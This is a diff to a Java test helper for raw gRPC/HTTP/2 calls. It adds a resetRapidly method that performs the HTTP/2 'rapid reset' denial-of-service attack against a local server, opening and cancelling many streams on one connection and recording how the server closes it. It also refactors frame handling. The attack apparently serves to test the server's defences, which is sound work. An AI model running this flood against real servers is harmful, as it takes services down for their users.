@@ -28,7 +28,9 @@ import java.util.Map;
  */
 public final class RawGrpcCall {
   private static final int SETTINGS = 0x4;
+  private static final int RST_STREAM = 0x3;
   private static final int GOAWAY = 0x7;
+  private static final byte[] CANCEL = {0, 0, 0, 8}; // RST_STREAM's error code CANCEL
   private static final int FLAG_ACK = 0x1;
   private static final int MAX_FRAME_BYTES = 16_384; // RFC 9113 initial SETTINGS_MAX_FRAME_SIZE
   private static final int STREAM = 1;
@@ -118,6 +120,12 @@ public final class RawGrpcCall {
       return read(socket);
     }
 
+    /** Sends nothing more and waits up to {@code timeout} for the server to end the call. */
+    public Outcome await(Duration timeout) throws IOException {
+      socket.setSoTimeout((int) timeout.toMillis());
+      return read(socket);
+    }
+
     private void write(byte[] payload, int flags) throws IOException {
       ByteArrayOutputStream bytes = new ByteArrayOutputStream();
       RawPurchaseConnection.writeFrame(bytes, GrpcStreamDecoder.DATA, flags, STREAM, payload);
@@ -147,7 +155,74 @@ public final class RawGrpcCall {
     }
   }
 
+  /**
+   * The HTTP/2 "rapid reset" attack: opens {@code calls} calls to {@code path} on one connection
+   * and cancels each at once (its HEADERS, then RST_STREAM CANCEL). Returns how the server ended
+   * the connection ({@code GOAWAY <error code>}, {@code CLOSED}), or {@code OPEN} when it was still
+   * open {@code patience} after the last reset was sent.
+   */
+  public static String resetRapidly(int port, String path, int calls, Duration patience) throws IOException {
+    try (Socket socket = new Socket()) {
+      socket.connect(new InetSocketAddress("127.0.0.1", port), (int) patience.toMillis());
+      socket.setSoTimeout((int) patience.toMillis());
+      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+      bytes.writeBytes(Http2FrameReader.PREFACE);
+      RawPurchaseConnection.writeFrame(bytes, SETTINGS, 0, 0, new byte[0]);
+      // One encoder for the connection: HPACK's table carries from call to call, as in a real client.
+      DefaultHttp2HeadersEncoder encoder = new DefaultHttp2HeadersEncoder();
+      Request request = new Request(path, Map.of(), new byte[0], false);
+      for (int i = 0; i < calls; i++) {
+        int stream = 1 + 2 * i;
+        writeHeaders(bytes, encoder, stream, "127.0.0.1:" + port, request, true);
+        RawPurchaseConnection.writeFrame(bytes, RST_STREAM, 0, stream, CANCEL);
+      }
+      try {
+        socket.getOutputStream().write(bytes.toByteArray());
+      } catch (IOException e) {
+        // closed while writing: what it sent before says why
+      }
+      String[] ending = {null};
+      GrpcStreamDecoder decoder = new GrpcStreamDecoder(false, new GrpcStreamDecoder.Listener() {
+        @Override
+        public void control(Http2FrameReader.Frame f) {
+          if (f.type() == GOAWAY && ending[0] == null) ending[0] = "GOAWAY " + goAwayCode(f);
+          if (f.type() == SETTINGS) ackSettings(socket, f);
+        }
+      });
+      byte[] buf = new byte[64 * 1024];
+      try (InputStream in = socket.getInputStream()) {
+        for (int n; ending[0] == null && (n = in.read(buf)) >= 0; ) decoder.feed(buf, 0, n, 0);
+      } catch (SocketTimeoutException e) {
+        return ending[0] != null ? ending[0] : "OPEN";
+      } catch (IOException e) {
+        // reset by the server
+      }
+      return ending[0] != null ? ending[0] : "CLOSED";
+    }
+  }
+
+  private static long goAwayCode(Http2FrameReader.Frame goAway) {
+    return goAway.payload().length >= 8 ? ByteBuffer.wrap(goAway.payload(), 4, 4).getInt() & 0xffffffffL : -1;
+  }
+
+  /** Acknowledges the server's SETTINGS (an ACK itself needs none). */
+  private static void ackSettings(Socket socket, Http2FrameReader.Frame settings) {
+    if ((settings.flags() & FLAG_ACK) != 0) return;
+    ByteArrayOutputStream ack = new ByteArrayOutputStream();
+    RawPurchaseConnection.writeFrame(ack, SETTINGS, FLAG_ACK, 0, new byte[0]);
+    try {
+      socket.getOutputStream().write(ack.toByteArray());
+    } catch (IOException ignored) {
+      // the server is closing; what it sent says why
+    }
+  }
+
   private static void writeHeaders(ByteArrayOutputStream out, String authority, Request request, boolean withDeadline) {
+    writeHeaders(out, new DefaultHttp2HeadersEncoder(), STREAM, authority, request, withDeadline);
+  }
+
+  private static void writeHeaders(ByteArrayOutputStream out, DefaultHttp2HeadersEncoder encoder, int stream, String authority,
+      Request request, boolean withDeadline) {
     var headers = new DefaultHttp2Headers()
         .method("POST").scheme("http").path(request.path()).authority(authority)
         .add("content-type", "application/grpc").add("te", "trailers");
@@ -155,7 +230,7 @@ public final class RawGrpcCall {
     request.extraHeaders().forEach(headers::add);
     ByteBuf block = Unpooled.buffer();
     try {
-      new DefaultHttp2HeadersEncoder().encodeHeaders(STREAM, headers, block);
+      encoder.encodeHeaders(stream, headers, block);
     } catch (Http2Exception e) {
       throw new IllegalArgumentException("cannot encode headers: " + e.getMessage(), e);
     }
@@ -166,7 +241,7 @@ public final class RawGrpcCall {
       int end = Math.min(encoded.length, at + MAX_FRAME_BYTES);
       int type = at == 0 ? GrpcStreamDecoder.HEADERS : GrpcStreamDecoder.CONTINUATION;
       int flags = end == encoded.length ? GrpcStreamDecoder.FLAG_END_HEADERS : 0;
-      RawPurchaseConnection.writeFrame(out, type, flags, STREAM, Arrays.copyOfRange(encoded, at, end));
+      RawPurchaseConnection.writeFrame(out, type, flags, stream, Arrays.copyOfRange(encoded, at, end));
     }
   }
 
@@ -191,19 +266,8 @@ public final class RawGrpcCall {
 
       @Override
       public void control(Http2FrameReader.Frame f) {
-        if (f.type() == GOAWAY && outcome[0] == null) {
-          long code = f.payload().length >= 8 ? ByteBuffer.wrap(f.payload(), 4, 4).getInt() & 0xffffffffL : -1;
-          outcome[0] = new Outcome(-1, "", "", "GOAWAY " + code);
-        }
-        if (f.type() == SETTINGS && (f.flags() & FLAG_ACK) == 0) {
-          ByteArrayOutputStream ack = new ByteArrayOutputStream();
-          RawPurchaseConnection.writeFrame(ack, SETTINGS, FLAG_ACK, 0, new byte[0]);
-          try {
-            socket.getOutputStream().write(ack.toByteArray());
-          } catch (IOException ignored) {
-            // the server is closing; what it sent says why
-          }
-        }
+        if (f.type() == GOAWAY && outcome[0] == null) outcome[0] = new Outcome(-1, "", "", "GOAWAY " + goAwayCode(f));
+        if (f.type() == SETTINGS) ackSettings(socket, f);
       }
     });
     byte[] buf = new byte[64 * 1024];
